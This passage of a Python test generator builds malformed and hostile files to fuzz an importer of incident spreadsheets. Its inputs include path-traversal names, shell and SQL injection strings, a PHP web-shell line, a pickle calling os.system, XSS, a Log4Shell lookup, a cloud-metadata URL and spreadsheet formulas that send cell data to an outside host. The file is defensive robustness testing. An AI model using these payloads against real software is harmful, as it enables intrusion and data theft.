    yield shape("40 MB of blank lines below the header", lambda: HEADER + b"\n" * 40 * 10**6, refuse=True)
    yield shape("a cell of 15 MB of control signs", lambda: HEADER + LINE.replace(b"Rock", b"\x01" * 15 * 10**6))
    yield shape("5,000 cells of control signs", lambda: HEADER + LINE.replace(b"Rock", b"\x01" * 4_000) * 5_000)
    yield shape("200 headers that are nearly known", _near_headers)
    yield shape("nothing", _fixed(b""), refuse=True)
    yield shape("one byte", _fixed(b","), refuse=True)
    yield shape("blanks only", lambda: b" \t\r\n" * 10**6, refuse=True)
    yield shape("a header only", _fixed(HEADER), refuse=True)
    yield shape("no header", lambda: LINE * 5, refuse=True)


def _near_headers() -> bytes:
    names = b",".join(b"us_kiled%d" % number for number in range(180))
    return HEADER.rstrip() + b"," + names + b"\n" + LINE


# Encodings.


def _encodings() -> Iterator[HostileFile]:
    spoilt = LINE.replace(b"Rockets", b"Rock%ets")
    arabic = table([{"summary_en": "سقطت صواريخ على القاعدة، ولا إصابات."}])

    def coded(label: str, make: Make, refuse: bool = True) -> HostileFile:
        return HostileFile("encodings", label, make, refuse=refuse)

    def inside(label: str, middle: bytes, refuse: bool = True) -> HostileFile:
        return coded(label, lambda: HEADER + spoilt.replace(b"%", middle), refuse)

    yield inside("NUL in a cell", b"\x00")
    yield inside("lone surrogate", b"\xed\xa0\x80")
    yield inside("surrogate pair as two (CESU-8)", b"\xed\xa0\xbd\xed\xb8\x80")
    yield inside("overlong slash", b"\xc0\xaf")
    yield inside("overlong NUL", b"\xc0\x80")
    yield inside("overlong in four bytes", b"\xf0\x80\x80\xaf")
    yield inside("beyond U+10FFFF", b"\xf4\x90\x80\x80")
    yield inside("six bytes", b"\xfc\x80\x80\x80\x80\x80")
    yield inside("a continuation alone", b"\x80")
    yield inside("a sequence cut short", b"\xe2\x82")
    yield inside("BOM in the middle", b"\xef\xbb\xbf", refuse=False)
    yield inside("every C0 sign but NUL", bytes(sign for sign in range(1, 32) if sign not in b"\r\n"), refuse=False)
    yield inside("C1 signs", "".join(map(chr, range(0x80, 0xA0))).encode(), refuse=False)
    yield inside("signs that are none", "\ufffe\uffff\U0001ffff\ufdd0".encode(), refuse=False)
    yield inside("terminal escapes", b"\x1b[2J\x1b]0;owned\x07", refuse=False)
    yield coded("two BOMs", lambda: b"\xef\xbb\xbf" * 2 + HEADER + LINE, refuse=False)
    yield coded("a BOM only", _fixed(b"\xef\xbb\xbf"))
    yield coded("a UTF-8 BOM before UTF-16", lambda: b"\xef\xbb\xbf" + (HEADER + LINE).decode().encode("utf-16-le"))
    yield coded("a UTF-16 BOM before UTF-8", lambda: b"\xff\xfe" + HEADER + LINE)
    yield coded("UTF-16, cut inside a unit", lambda: (HEADER + LINE).decode().encode("utf-16")[:-1])
    yield coded("UTF-16 with a lone surrogate", lambda: (HEADER + LINE).decode().encode("utf-16") + b"\x00\xd8\x0a\x00")
    yield coded("UTF-16 without BOM", lambda: (HEADER + LINE).decode().encode("utf-16-le"))
    yield coded("UTF-16 big end first without BOM", lambda: (HEADER + LINE).decode().encode("utf-16-be"))
    yield coded("UTF-32", lambda: (HEADER + LINE).decode().encode("utf-32"))
    yield coded("UTF-7", lambda: HEADER + "<script>".encode("utf-7") + LINE, refuse=False)
    yield coded("UTF-8 and Windows-1256 mixed", lambda: arabic + arabic.split(b"\n")[1].decode().encode("cp1256"))
    yield coded("Windows-1256, 20 MB", lambda: arabic.decode().encode("cp1256") * (20 * 10**6 // 200))
    yield coded("20 MB of UTF-8 and one bad byte", lambda: HEADER + LINE * (20 * 10**6 // len(LINE)) + b"\xff")
    yield coded("EBCDIC", lambda: (HEADER + LINE).decode().encode("cp500"))
    yield coded("ISO-2022", lambda: HEADER + "事件".encode("iso2022_jp") + LINE, refuse=False)
    yield coded("1 MB of FF", lambda: b"\xff" * 10**6)
    yield coded("5 MB of every byte", lambda: bytes(range(1, 256)) * 20_000)
    yield coded("10 MB of NUL", lambda: bytes(10**7))


# Names.


def _names() -> Iterator[HostileFile]:
    names = {
        "upwards": "../../../../etc/passwd",
        "upwards, backslashes": "..\\..\\windows\\win.ini",
        "upwards, percent": "%2e%2e%2f%2e%2e%2fpasswd.csv",
        "absolute": "/etc/passwd",
        "a device": "/dev/zero",
        "NUL": "incidents.csv\x00.exe",
        "300 characters": "a" * 296 + ".csv",
        "300 Arabic characters": "ح" * 300,
        "200,000 characters": "a" * 200_000,
        "CON": "CON",
        "CON.csv": "CON.csv",
        "a stream": "incidents.csv:hidden",
        "network share": "\\\\host\\share\\incidents.csv",
        "RTL override": "incidents\u202evsc.exe",
        "zero width": "inci\u200bdents.csv",
        "lone surrogate": "incidents\ud800.csv",
        "line breaks": "a.csv\r\nSet-Cookie: x=1\r\n\r\n",
        "an option": "--help",
        "nothing": "",
        "a dot": ".",
        "dots and blanks": " ... ",
        "a shell's command": "$(touch owned);`touch owned`|touch owned.csv",
        "markup": "<script>alert(1)</script>.csv",
        "a format": "{0.__class__}%s%n.csv",
        "another type": "incidents.exe",
        "JSON": '"},"limits":{"rows":1},"x":{"',
    }
    for label, name in names.items():
        yield HostileFile("names", label, honest, name)


# Wrong types.


def _wrong_types() -> Iterator[HostileFile]:
    starts = {
        "EXE": b"MZ\x90\x00\x03\x00",
        "ELF": b"\x7fELF\x02\x01\x01",
        "PNG": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "JPEG": b"\xff\xd8\xff\xe0\x00\x10JFIF",
        "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "SQLite": b"SQLite format 3\x00\x10\x00",
        "XLS": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(24),
        "RTF": b"{\\rtf1\\ansi ",
        "RAR": b"Rar!\x1a\x07\x01\x00",
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
        "bzip2": b"BZh91AY&SY",
        "xz": b"\xfd7zXZ\x00\x00\x04",
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
        "parquet": b"PAR1\x15\x04\x15\x10",
        "pickle": b"\x80\x04\x95\x20\x00\x00\x00\x8c\x05posix\x8c\x06system\x93",
        "tar": b"incidents.csv" + bytes(87) + b"0000644\x00",
    }

    def wrong(label: str, make: Make, name: str = "incidents.csv", refuse: bool = True) -> HostileFile:
        return HostileFile("wrong types", label, make, name, refuse)

    for label, start in starts.items():
        yield wrong(label, partial(_typed_file, start))
    yield wrong("HTML", lambda: b"<!DOCTYPE html><html><script>alert(1)</script>" + HEADER + LINE)
    yield wrong("HTML behind blanks and a BOM", lambda: b"\xef\xbb\xbf \n\t <HTML>" + HEADER + LINE)
    yield wrong("SVG", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    yield wrong("XML with entities", f"<?xml version='1.0'?>{LAUGHS}<x>&i;</x>".encode)
    yield wrong("JSON", lambda: b'[{"date": "2020-01-08", "site_id": "ain-al-asad"}]')
    yield wrong("JSON, 200,000 deep", lambda: b"[" * 200_000)
    yield wrong("PHP", lambda: b"<?php system($_GET['c']); ?>\n" + HEADER + LINE)
    yield wrong("shell script", lambda: b"#!/bin/sh\ntouch owned\n")
    yield wrong("ODS", lambda: zip_of([_ods_type(), Entry(b"content.xml", deflated(b"<x/>"))]), "a.ods")
    yield wrong("DOCX", lambda: zip_of([Entry(b"word/document.xml", deflated(b"<x/>"))]), "a.docx")
    yield wrong("JAR", lambda: zip_of([Entry(b"META-INF/MANIFEST.MF", deflated(b"x")), _csv_entry()]), "a.jar")
    yield wrong("an EXE in a ZIP", lambda: zip_of([_csv_entry(b"a.csv", _typed_file(starts["EXE"]))]), "a.zip")
    yield wrong("a PDF in a gzip", lambda: gzip_of(deflated(_typed_file(starts["PDF"]))), "a.gz")
    yield wrong("HTML in a ZIP", lambda: zip_of([_csv_entry(b"a.csv", b"<html>" + HEADER + LINE)]), "a.zip")
    yield wrong("PDF that is a ZIP as well", lambda: starts["PDF"] + zip_of([_csv_entry()]), "a.pdf")
    yield wrong("CSV that is a ZIP as well", lambda: HEADER + LINE + zip_of([_csv_entry()]))
    yield wrong("ZIP that is a CSV as well", lambda: zip_of([_csv_entry()]) + b"\n" + HEADER + LINE, refuse=False)
    yield wrong("CSV that is a script as well", lambda: HEADER + b"<script>\n" + LINE, refuse=False)
    yield wrong("XLSX that is a CSV by name", xlsx, refuse=False)
    yield wrong("CSV that is an XLSX by name", honest, "incidents.xlsx", refuse=False)
    yield wrong("XLSX and ODS at once", lambda: xlsx({"content.xml": "<x/>"}, [_ods_type()]), "a.xlsx", refuse=False)
    yield wrong("noise", lambda: random.Random(5).randbytes(5 * 10**6))


def _typed_file(start: bytes) -> bytes:
    return start + random.Random(3).randbytes(2_000) + HEADER + LINE


def _ods_type() -> Entry:
    return Entry(b"mimetype", stored(b"application/vnd.oasis.opendocument.spreadsheet"), method=0)


# Text that another program would run.


def _formulae() -> Iterator[HostileFile]:
    texts = {
        "formulae": ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "%0A=1+1"),
        "formulae that call out": ('=HYPERLINK("http://x.example?"&A1)', '=WEBSERVICE("http://x.example")'),
        "scripts": ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><svg/onload=alert(1)>"),
        "templates": ("${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://x.example/a}", "{0.__class__}"),
        "formats": ("%s%s%n", "{value}", "{}", "{column!r}", "%(name)s", "{{", "}}", "{"),
        "SQL": ("'; DROP TABLE incidents; --", "' OR 1=1", '" UNION SELECT 1'),
        "shell": ("$(touch owned)", "`touch owned`", "; touch owned", "| touch owned"),
        "files": (
            "file:///etc/passwd",
            "../../etc/passwd",
            "!!python/object/apply:os.system [touch]",
            "\\input{/etc/passwd}",
        ),
        "line breaks": ("a\nb", "a\r\nSet-Cookie: x=1", "a\u2028b"),
    }
    columns = {"summary": "summary_en", "place": "place_en", "site": "site_id", "weapon": "weapon", "id": "incident_id"}
    for label, cells in texts.items():
        for where, column in columns.items():
            if column in GOOD and (where in ("summary", "site") or label in ("formulae", "scripts", "formats")):
                yield HostileFile("formulae and scripts", f"{label} in the {where}", _each(column, cells))
    yield HostileFile(
        "formulae and scripts", "formats as headers", lambda: b"{value},{0.__class__},%s\n" + HEADER + LINE
    )
    yield HostileFile("formulae and scripts", "scripts as further headers", _odd_headers)
    links = (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>", "http://169.254.169.254/latest",
        "http://[::1", "https://user:pass@x.example/", "https://x.example\\@y.example/", "//x.example", "https://",
        "https:///x", "https://x.example/\u202e", "http://x.example:99999999/", "https://exa mple/", "ftp://x.example/",
        "https://xn--\u0000/", "https://٣.example/", "vbscript:x", "https://" + "a." * 2_000, "file:///etc/passwd",
    )  # fmt: skip
    yield HostileFile("formulae and scripts", "links", _each("source_urls", (link.replace("\0", "") for link in links)))
    yield HostileFile(
        "formulae and scripts", "links by the thousand", _one({"source_urls": "https://x.example | " * 240})
    )


def _odd_headers() -> bytes:
    return HEADER.rstrip() + b",<script>alert(1)</script>,=1+1,${v},{w}\n" + LINE


# Numbers, dates, signs.


def _numbers() -> Iterator[HostileFile]:
    cells = {
        "beyond a float": ("1e309", "-1e309", "1e-400", "1E+999999999", "Infinity", "-inf", "NaN", "nan(1)"),
        "Arabic and others": ("٣٫٥", "٣", "۳", "３", "१२", "²", "½", "Ⅷ", "𝟑", "①", "٣٬٠٠٠", "፩", "四"),
        "written oddly": ("0x10", "0b1", "1_000", "1,00,0", "1e3", "+5", "5%", "--5", "5-", "1.", ".5", "0" * 30, "-0"),
        "long": ("9" * 13, "9" * 4_299, "9" * 4_301, "9" * LONG_CELL, "1." + "0" * LONG_CELL, "1,000" * 900, "-" * 900),
        "with blanks": ("1 000", "1\u00a0000", "\u200b5", "5\u200f", "\u061c5", "5\n"),
    }
    for label, texts in cells.items():
        yield HostileFile("numbers", f"{label}, as a count", _each("us_killed", texts))
        yield HostileFile("numbers", f"{label}, as a latitude", _degrees(texts))
        yield HostileFile("numbers", f"{label}, as a time", _each("time_local", texts))
        yield HostileFile("numbers", f"{label}, as a date", _each("date", texts))
    yield HostileFile("numbers", "a million digits", _one({"us_killed": "9" * 10**6}))
    yield HostileFile("numbers", "a million digits, as a latitude", _one({**NOWHERE, "latitude": "3" * 10**6}))
    ends = ("90", "-90", "90.0000001", "33 60 00", "33 59 60", "33°59'59.999", "-0", "999", "33N N", "N33N", "33,5")
    yield HostileFile("numbers", "degrees at their ends", _degrees(ends))


def _degrees(cells: Iterable[str]) -> Make:
    taken = list(cells)
    return lambda: table(
        [{**NOWHERE, "latitude": cell, "longitude": "44.4"} for cell in taken]
        + [{**NOWHERE, "latitude": "33.3", "longitude": cell} for cell in taken]
    )


def _dates() -> Iterator[HostileFile]:
    cells = {
        "year nought": ("0000-00-00", "0000-01-01", "0001-01-01", "-0001-01-01", "00000-01-01", "1/1/0000"),
        "the last day": (
            "9999-12-31",
            "31.12.9999",
            "10000-01-01",
            "9999-12-31T23:59:59Z",
            "9999-12-31T23:59:59-14:00",
        ),
        "the first day": ("0001-01-01T00:00:00+14:00", "0001-01-01T00:00:00Z", "0001-01-01T00:00-23:59"),
        "29 February": (
            "2023-02-29",
            "2024-02-29",
            "1900-02-29",
            "2100-02-29",
            "29 Feb 2023",
            "29 شباط 2023",
            "29/2/2023",
        ),
        "days and months that are none": (
            "2020-13-01",
            "2020-02-30",
            "2020-00-10",
            "2020-01-00",
            "32.1.2020",
            "2020-1-99",
        ),
        "hours that are none": ("2020-01-08T24:00", "2020-01-08T25:61", "2020-01-08T23:59:60", "2020-01-08T1:2Z"),
        "zones that are none": (
            "2020-01-08T00:00+99:99",
            "2020-01-08T00:00-24:00",
            "2020-01-08T00:00+0",
            "2020-01-08 00:00 XX",
        ),
        "forms that are not days": (
            "2020-W02-3",
            "2020-008",
            "1578441600",
            "1578441600000",
            "43838",
            "now",
            "today",
            "P1D",
        ),
        "other calendars": (
            "1441/05/13",
            "13 جمادى الأولى 1441",
            "1398-10-18",
            "5780-04-11",
            "令和2年1月8日",
            "۱۳۹۸/۱۰/۱۸",
        ),
        "other digits": (
            "٢٠٢٠-٠١-٠٨",
            "۲۰۲۰-۰۱-۰۸",
            "２０２０-０１-０８",
            "२०२०-०१-०८",
            "२०२०-०१-०८T०१:००",
            "²⁰²⁰-⁰¹-⁰⁸",
        ),
        "long": (
            "2" * LONG_CELL,
            "2020-01-08" * 490,
            "-" * LONG_CELL,
            "1 " * 2_400,
            "January " * 600 + "2020",
            "/" * 4_000,
        ),
        "words": ("January", "2020", "8 January", "January 8th 8th 2020", "8 Jan/Feb 2020", "8 //// 2020", "8 / 2020"),
    }
    for label, texts in cells.items():
        yield HostileFile("dates", label, _each("date", texts))
    yield HostileFile(
        "dates", "20,000 different ones that are none", _each("date", (f"2020-13-{n}" for n in range(20_000)))
    )


def _unicode() -> Iterator[HostileFile]:
    marks = "a" + "\u0301\u0327\u0489" * 1_600
    cells = {
        "10,000 combining marks": "a" + "\u0301" * 10_000,
        "4,800 combining marks": marks,
        "signs that unfold to 18": "\ufdfa" * LONG_CELL,
        "bidi overrides, never closed": "\u202e\u202d\u2067" * 1_000 + "abc",
        "bidi isolates, closed too often": "abc" + "\u2069\u202c" * 1_000,
        "signs that cannot be seen": "\u200b\u200c\u200d\u2060\ufeff\u00ad" * 500,
        "tags": "🏴" + "".join(chr(0xE0000 + ord(sign)) for sign in "hidden text") + "\U000e007f",
        "joined emoji": "👩\u200d" * 1_000,
        "variation selectors": "a" + "\ufe0f\U000e0100" * 2_000,
        "private use": "\ue000\U000f0000\U0010ffff" * 500,
        "halves of Hangul": "\u1100\u1161\u11a8" * 1_500,
        "Arabic presentation forms": "ﻋﻴﻦ ﺍﻷﺳﺪ",
        "letters that look alike": "аin-al-аsаd",
        "tatweel": "عين" + "ـ" * 4_000 + "الأسد",
        "Turkish i": "İIıi" * 1_000,
        "numerals of every kind": "①Ⅷ𝟑፩²½" * 600,
        "blanks of every kind": "\u00a0\u1680\u2003\u202f\u3000\u2028\u2029\x85\x1c" * 400,
    }
    for label, text in cells.items():
        rows = [{column: text} for column in ("summary_en", "site_id", "weapon", "date", "incident_id", "us_killed")]
        yield HostileFile("unicode", label, partial(table, rows))
    yield HostileFile("unicode", "a header of combining marks", lambda: HEADER.replace(b"notes", marks.encode()) + LINE)
    yield HostileFile("unicode", "headers with signs that cannot be seen", _hidden_headers)
    yield HostileFile("unicode", "100 sites that unfold to 18", _unfolding)


def _hidden_headers() -> bytes:
    return HEADER.replace(b"weapon", "wea\u200bpon\u202e".encode()).replace(b"date", "\ufeffdate".encode()) + LINE


def _unfolding() -> bytes:
    return table({"site_id": "\ufdfa" * LONG_CELL + str(number)} for number in range(100))


def _duplicates() -> Iterator[HostileFile]:
    def twice(label: str, make: Make, refuse: bool = False) -> HostileFile:
        return HostileFile("duplicates", label, make, refuse=refuse)

    yield twice("30,000 names that are nearly known", lambda: table({"site_id": f"Harrir {n}"} for n in range(30_000)))
    yield twice("50,000 equal rows", lambda: HEADER + LINE * 50_000)
    yield twice("20,000 rows of the same day and place", lambda: honest(20_000))
    yield twice(
        "20,000 rows of the same id", lambda: table({"incident_id": "a", "notes": str(n)} for n in range(20_000))
    )
    yield twice(
        "ids that differ in case and in signs", _each("incident_id", ("a-1", "A-1", "a-1 ", "а-1", "a\u200b-1"))
    )
    yield twice("ids like those that are made", _made_ids)
    yield twice("an id that is there already", _one({"incident_id": "2019-12-03-ain-al-asad-1"}))
    yield twice("two columns of the same name", lambda: HEADER.rstrip() + b",date\n" + LINE, refuse=True)
    yield twice("two columns of the same meaning", lambda: HEADER.rstrip() + ",التاريخ\n".encode() + LINE, refuse=True)
    yield twice("190 columns of the same name", lambda: HEADER.rstrip() + b",date" * 180 + b"\n" + LINE, refuse=True)
    yield twice("the header again as a row", lambda: (HEADER + LINE) * 500)
    yield twice("rows that differ in blanks", _each("notes", ("", " ", "\t", "\u00a0", "\u200b")))
    yield HostileFile("duplicates", "two parts of the same name", _double_part, "incidents.xlsx")


def _made_ids() -> bytes:
    made = [{"incident_id": f"2020-01-08-ain-al-asad-{n}", "notes": f"id {n}"} for n in range(1, 5_000)]
    return table(
        row for pair in zip(made, ({"notes": f"none {n}"} for n in range(5_000)), strict=False) for row in pair
    )


def _double_part() -> bytes:
    return xlsx(entries=[Entry(SHEET.encode(), deflated(sheet(GOOD_ROW).encode()))])


# Regular expressions: for each of the reader's, a text that nearly matches and makes a bad one try every way.

_BLANKS = " " * LONG_CELL
_APOSTROPHES = "'" * LONG_CELL
BAIT: dict[str, tuple[str, tuple[str, ...]]] = {
    "dates._ISO": ("date", ("1234-" * 980, "2020-01-0" + "1" * LONG_CELL)),
    "dates._ISO_TIME": ("date", ("2020-01-08T01:00:00." + "1" * 4_800 + " x", "2020-01-08T01:00" + "\u00a0" * 4_800)),
    "dates._NUMERIC": ("date", ("11/11/" * 816, "1/1/" + "1" * LONG_CELL)),
    "dates._MONTH_ONLY": ("date", ("2020-1" * 816, "1/2020" * 816)),
    "dates._WORDS": (
        "date",
        ("1" + "st " * 1_600, "ab " * 1_600 + "20", "1 " + "a1" * 2_400, "x" * LONG_CELL + " 202"),
    ),
    "dates._WEEKDAYS": ("date", ("monday, " * 600, "يوم " * 1_200, "يوم الأحد" + "," * 4_800)),
    "dates._read": ("date", ("4" * 5 + "." + "0" * 4_800 + "x", "1" * LONG_CELL)),
    "dates._is_hijri": ("date", ("1441" * 1_200, "1" * LONG_CELL, "14 " * 1_600)),
    "dates._from_words": ("date", ("1-" * 2_400, "-" * LONG_CELL, "-1" * 2_400)),
    "delimited._SEPARATOR_LINE": ("", ("sep=" * 1_200, "sep=," + "\r" * LONG_CELL, "sep=;" * 1_000)),
    "guard._NEEDS": ("notes", (_APOSTROPHES,)),
    "guard._GUARDED": ("notes", (_APOSTROPHES + "x",)),
    "guard._NUMBER": ("notes", ("-" + "1" * 4_800 + ".", "+1." + "1" * 4_800 + "x")),
    "harm._DETAIL": (
        "summary_en",
        (
            "33.333" + " " * 4_800 + "x",
            "1 m " * 1_200,
            "33." + "3" * 4_800,
            "33.333 " * 690,
            "ammunition " * 440,
            "building " * 540,
            "north " * 800,
            "حظيرة " * 800,
            "33.3333,N," + "\u00a0" * 4_800,
        ),
    ),
    "harm._DETAIL_AR": ("summary_en", ("مخزن " * 1_000, "حظيرة " + "ال" * 2_400)),
    "harm._NAME_AR": ("summary_en", ("المواطن " + "س" * 4_800, "المواطن" + " " * 4_800, "المواطن ابنابن " * 300)),
    "harm._NAME": (
        "summary_en",
        (
            "Private " + "Aaaa" * 1_200,
            "Aaaa " * 950,
            "Aaaa Aaaa, " * 440,
            "Private Aaaa" + " bin-" * 900,
            "Staff " * 800,
            "named " * 800,
            "witness Aa" + "a" * 4_800,
            "المدعو" + " " * 4_800,
            "المدعو ابجد" + " " * 4_800,
            "المواطن " * 600,
        ),
    ),
    "spreadsheet._CELL": ("notes", ('<c r="' * 800,)),
    "values._HIDDEN": ("summary_en", ("é" * LONG_CELL,)),
    "values._LINK": (
        "source_urls",
        (
            "https://" + "a" * 4_800 + "@",
            "https://a" + " " * 4_800 + "b",
            "https://[" + ":" * 4_800,
            "https://a:" + "1" * 4_800,
            "https://" + "a@" * 2_400,
        ),
    ),
    "values._WHOLE": ("us_killed", ("1,111" * 900 + ",1", "1" * LONG_CELL + "x", "1." + "0" * 4_800 + "1")),
    "values._ID": ("incident_id", ("a" * LONG_CELL, "a." * 2_400)),
    "values._TIME": ("time_local", ("1:11:11" * 600, "1" * LONG_CELL, "01:30:" + "5" * 4_800)),
    "values._DECIMAL": (
        "latitude",
        ("N" + _BLANKS, "33" + _BLANKS + "x", "33." + "3" * 4_800 + " x", "33" + _BLANKS + "°x"),
    ),
    "values._DMS": (
        "latitude",
        (
            "33" + " " * 1_600 + "20" + " " * 1_600 + "10" + " " * 1_600 + "x",
            "33" + _BLANKS + "x",
            "33°20'" + _BLANKS + "x",
            "33:20:" + " " * 2_400 + "10." + "1" * 2_400,
        ),
    ),
    "values.parse_count": (
        "us_killed",
        (
            "-" + _BLANKS + "x",
            "1" + _BLANKS + "x",
            "1" * 2_400 + " - " + " " * 2_400,
            "-" + "1" * 4_800 + ".",
            "about" * 900,
        ),
    ),
    "text._NOT_WORD": ("site_id", ("_-" * 2_400, "a_" * 2_400, "é_" * 2_400)),
}
"""Module and name (or function) of each expression -> the column that it reads ("": the file's start), and texts."""


def _regex_bait() -> Iterator[HostileFile]:
    for name, (column, texts) in BAIT.items():
        yield HostileFile("regex bait", name, partial(_baited, column, texts))
    yield HostileFile("regex bait", "beginnings of cells, 4 MB", _cell_bait, "incidents.xlsx")


def _baited(column: str, texts: tuple[str, ...], rows: int = 200) -> bytes:
    """Every text in many rows, each time with another end so that nothing is remembered."""
    if not column:
        return "\n".join(texts).encode() + b"\n" + honest()
    place = {"site_id": "", "longitude": "44.4"} if column == "latitude" else {}
    return table({**place, column: f"{text}{number:x}"} for number in range(rows) for text in texts)


def _cell_bait() -> bytes:
    return xlsx({SHEET: _long_sheet('<c a="b" ', 450_000)})
